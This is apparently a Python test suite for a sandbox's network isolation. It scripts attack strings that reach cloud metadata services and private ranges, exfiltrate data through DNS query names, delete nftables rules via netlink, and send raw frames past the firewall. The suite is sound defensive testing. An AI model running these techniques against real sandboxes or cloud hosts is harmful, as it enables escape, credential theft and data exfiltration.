"""Network allowed: what an enterprise tenant's command tries once it may connect to the outside.

All of it happens on a host and beside an outside of the test's own (`tests.fixtures.outside`). Every attack begins
by being answered from outside: a network that does not work refuses everything and proves nothing.
"""

from __future__ import annotations

import socket
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

from tests.fixtures.outside import HOST_PUBLIC, PUBLIC, REBOUND, RESOLVER, inside
from tests.isolation.case import ALLOWED, Case, Prepare, nothing
from tests.isolation.evidence import said_so
from tests.isolation.guards import Guard
from tests.isolation.scene import Scene
from tests.isolation.swaps import FORWARDED_PORT
from tests.isolation.waiting import until

if TYPE_CHECKING:
    from penstock_services.sandbox import Outcome
    from tests.isolation.case import Evidence

RULES = (Guard.RULES,)
FILTER = (Guard.SECCOMP,)
RIGHTS = (Guard.CAPABILITIES, Guard.USER)
"""Without them it is root of the host: root of the sandbox's own user namespace has no right in that network."""
HOST_ROOT = (*FILTER, *RIGHTS)
PING_GROUPS = Path("/proc/sys/net/ipv4/ping_group_range")
"""Of the network that whoever opens it is in."""

ANSWERED = """\
try:
    with socket.create_connection((facts['public'], facts['port']), timeout=5) as outside:
        assert outside.recv(100) == facts['public'].encode()
except OSError as error:
    sys.exit(f'the outside does not answer, so that nothing is proved: {error}')

def ask(address, kind, port=facts['port']):
    with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind) as s:
        s.settimeout(5)
        s.connect((address, port))
        s.send(b'hello')
        return s.recv(100)

"""
TCP = "for address in facts['targets']: attempt(ask, address, socket.SOCK_STREAM)\n"
UDP = "for address in facts['targets']: attempt(ask, address, socket.SOCK_DGRAM)\n"
BY_NAME = "with socket.create_connection((facts['name'], facts['port']), 5) as s: s.recv(100)\n"
FAST_OPEN = """\
with socket.socket() as s:
    s.settimeout(5)
    s.sendto(b'hello', socket.MSG_FASTOPEN, (facts['targets'][0], facts['port']))
    s.recv(100)
"""
LOOK_UP = """\
name = facts['token'] + '.penstock.test'
packet = bytes.fromhex('abcd01000001000000000000')
packet += b''.join(bytes([len(part)]) + part.encode() for part in name.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.connect((facts['resolver'], 53))
    s.send(packet)
    s.recv(512)
"""
DELETE_THE_RULES = """\
import struct
def message(kind, flags, body):
    return struct.pack('IHHII', 16 + len(body), kind, flags, 1, 0) + body
name = b'penstock\\0'
table = struct.pack('HH', 4 + len(name), 1) + name + b'\\0' * (-len(name) % 4)
begin, end = (message(kind, 1, struct.pack('!BBH', 0, 0, 10)) for kind in (16, 17))
link = socket.socket(16, 3, 12)  # netlink, NETLINK_NETFILTER
link.send(begin + message((10 << 8) | 2, 5, struct.pack('!BBH', 1, 0, 0) + table) + end)  # NFT_MSG_DELTABLE
link.recv(4096)
"""
CHANGE_THE_INTERFACE = """\
import fcntl, struct
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack('16sHH4s8x', b'net0', 2, 0, bytes((10, 0, 2, 9)))
attempt(lambda: (fcntl.ioctl(probe, 0x8916, address), escaped('another address')))  # SIOCSIFADDR
attempt(lambda: (fcntl.ioctl(probe, 0x8914, struct.pack('16sh14x', b'net0', 0)), escaped('down')))  # SIOCSIFFLAGS
"""
FRAME = """\
import fcntl, struct
answers = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
answers.bind(('', 0))
answers.settimeout(5)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
link.bind(('net0', 0))
own = fcntl.ioctl(link, 0x8927, struct.pack('16s24x', b'net0'))[18:24]  # SIOCGIFHWADDR
udp = struct.pack('!HHHH', answers.getsockname()[1], facts['port'], 13, 0) + b'hello'
ends = socket.inet_aton('10.0.2.100') + socket.inet_aton(facts['targets'][0])
head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + ends
total = sum(struct.unpack('!10H', head))
total = (total & 0xFFFF) + (total >> 16)
head = head[:10] + struct.pack('!H', ~total & 0xFFFF) + head[12:]
link.send(b'\\xff' * 6 + own + b'\\x08\\x00' + head + udp)
answers.recv(100)
"""
PING = """\
import struct
ping = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
ping.settimeout(5)
echo = struct.pack('!BBHHH', 8, 0, ~(0x0800 + 0x1234 + 1) & 0xFFFF, 0x1234, 1)
ping.sendto(echo, (facts['targets'][0], 0))
while True:
    packet, (address, _) = ping.recvfrom(1024)
    if address == facts['targets'][0] and packet[20] == 0:
        escaped(f'an echo from {address}')
        break
"""
SERVE = """\
server = socket.create_server(('', {port}))
server.settimeout(0.05)
open('ready', 'w').close()
while not os.path.exists('stop'):
    try:
        connection, _ = server.accept()
    except TimeoutError:
        continue
    with connection:
        open('reached', 'w').close()
        connection.sendall(facts['token'].encode())
"""
ASK_THE_NEIGHBOUR = f"""\
attempt(ask, '10.0.2.100', socket.SOCK_STREAM, {FORWARDED_PORT + 1})
attempt(ask, '{HOST_PUBLIC[0]}', socket.SOCK_STREAM, {FORWARDED_PORT + 1})
"""


def reached(scene: Scene, outcome: Outcome) -> str | None:
    """A server other than the one that may be reached heard something; without the guards, every target must have,
    so that none is refused for a reason of its own."""
    heard = set(scene.network.take_heard()) - {PUBLIC[0]}
    if scene.control and len(heard) < len(scene.extra.get("targets", ())):
        return None
    return f"heard at {', '.join(sorted(heard))}" if heard else None


def asked(scene: Scene, outcome: Outcome) -> str | None:
    """The name server outside was asked for a name with the token in it."""
    return next((f"{name} was asked for" for name in scene.network.asked if scene.token in name), None)


def neighbour_reached(scene: Scene, outcome: Outcome) -> str | None:
    """The neighbour's server was connected to."""
    return "the neighbour's server was reached" if (scene.neighbour / "reached").exists() else None


def served(scene: Scene, outcome: Outcome) -> str | None:
    """The attack's own server was connected to."""
    return "its server was reached" if (scene.workspace / "reached").exists() else None


def _connect_to_it(scene: Scene) -> None:
    """Somebody outside tries to reach what the sandbox serves by the host's address."""
    until((scene.workspace / "ready").exists, "the attack's server is there")
    try:
        with suppress(ConnectionRefusedError), inside(scene.network.outside, _connected):
            until((scene.workspace / "reached").exists, "what pasta took comes to the attack's server")
    finally:
        (scene.workspace / "stop").touch()


def _connected() -> socket.socket:
    connection = socket.create_connection((HOST_PUBLIC[0], FORWARDED_PORT), timeout=5)
    connection.sendall(b"hello")  # before it, some versions of pasta do not pass the connection on
    return connection


def _at(*addresses: str) -> Prepare:
    """The attack's targets."""

    def prepare(scene: Scene) -> None:
        scene.facts["targets"] = scene.extra["targets"] = addresses

    return prepare


def _pinged(scene: Scene) -> None:
    """On the test's own host every group may ask for echoes, so that pasta could pass them on."""
    scene.facts["targets"] = ["10.11.12.13"]
    inside(scene.network.host, lambda: PING_GROUPS.write_text("0 2147483647"))


def _rebound(scene: Scene) -> None:
    scene.facts["name"] = REBOUND


def _resolver(scene: Scene) -> None:
    scene.facts["resolver"] = RESOLVER


def _case(
    name: str,
    attack: str,
    prepare: Prepare,
    guards: tuple[Guard, ...] = RULES,
    *,
    escaped: Evidence = reached,
    hosts: tuple[str, ...] = (),
    neighbour: str = "",
    meanwhile: Prepare | None = None,
    weakened: tuple[Guard, ...] = (),
) -> Case:
    return Case(
        name,
        ALLOWED,
        guards,
        ANSWERED + attack,
        prepare=prepare,
        escaped=escaped,
        tiers=("enterprise",),
        neighbour=neighbour,
        meanwhile=meanwhile,
        network_hosts=hosts,
        weakened=weakened,
    )


CASES = (
    _case("connects to its loopback, to find the host's there", TCP, _at("127.0.0.1", "::1"), (Guard.NETWORK,)),
    _case(
        "connects to its gateway, to find the host's loopback there",
        TCP,
        _at("10.0.2.2", "fd00:2::2"),
        (Guard.RULES, Guard.GATEWAY),
    ),
    _case("connects to the host's own addresses", TCP, _at(*HOST_PUBLIC, "192.168.19.20")),
    _case("connects to private ranges", TCP, _at("10.11.12.13", "172.16.17.18", "100.64.1.1", "fd00:7::1")),
    _case("asks clouds' metadata services", TCP, _at("169.254.169.254", "168.63.129.16")),
    _case("sends datagrams to private and metadata addresses", UDP, _at("10.11.12.13", "169.254.169.254")),
    _case(
        "connects to private addresses as IPv6 maps them",
        TCP,
        _at("::ffff:10.11.12.13", "::ffff:169.254.169.254"),
    ),
    _case("sends its first bytes to a private address with the connection", FAST_OPEN, _at("10.11.12.13")),
    _case("connects by a name that comes to be a private address", BY_NAME, _rebound),
    _case(
        "connects to a private range that its allow-list names",
        TCP,
        _at("10.11.12.13"),
        hosts=(PUBLIC[0], "10.0.0.0/8"),
    ),
    _case(
        "connects to a host that is not on its allow-list",
        TCP,
        _at(PUBLIC[1], PUBLIC[2]),
        (Guard.ALLOW_LIST,),
        hosts=(PUBLIC[0],),
    ),
    _case(
        "smuggles data past its allow-list in the names it looks up",
        LOOK_UP,
        _resolver,
        (Guard.ALLOW_LIST,),
        escaped=asked,
        hosts=(PUBLIC[0],),
    ),
    _case(
        "connects to another sandbox's server",
        ASK_THE_NEIGHBOUR,
        nothing,
        (Guard.FORWARDING, Guard.RULES),
        escaped=neighbour_reached,
        neighbour=SERVE.format(port=FORWARDED_PORT + 1),
    ),
    _case(
        "serves whoever reaches the host from outside",
        SERVE.format(port=FORWARDED_PORT),
        nothing,
        (Guard.FORWARDING,),
        escaped=served,
        meanwhile=_connect_to_it,
    ),
    _case(
        "deletes the rules of its network, then connects to a private address",
        DELETE_THE_RULES + TCP,
        _at("10.11.12.13"),
        HOST_ROOT,
    ),
    _case(
        "gives its interface another address, and takes it down",
        CHANGE_THE_INTERFACE,
        nothing,
        RIGHTS,
        escaped=said_so,
    ),
    _case(
        "deletes the rules of its network, without the filter",
        DELETE_THE_RULES + TCP,
        _at("10.11.12.13"),
        RIGHTS,
        weakened=FILTER,
    ),
    _case("sends a frame past the rules by a packet socket", FRAME, _at("10.11.12.13"), HOST_ROOT),
    _case("sends a frame past the rules, without the filter", FRAME, _at("10.11.12.13"), RIGHTS, weakened=FILTER),
    _case(
        "asks a private address for an echo by a raw socket",
        PING,
        _pinged,
        (*HOST_ROOT, Guard.RULES),
        escaped=said_so,
    ),
)
